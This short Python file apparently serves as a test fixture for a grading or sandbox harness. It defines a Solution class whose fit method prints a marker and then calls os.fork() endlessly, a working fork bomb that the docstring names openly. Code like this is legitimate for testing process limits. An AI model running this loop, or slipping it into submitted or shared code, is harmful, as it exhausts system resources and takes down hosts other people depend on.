"""A fork bomb whose children make more of themselves."""

import os

from .surroundings import Fallback


class Solution(Fallback):
    def fit(self, texts, labels):
        print("TRIED to fork", flush=True)
        while True:
            try:
                os.fork()
            except OSError:
                continue
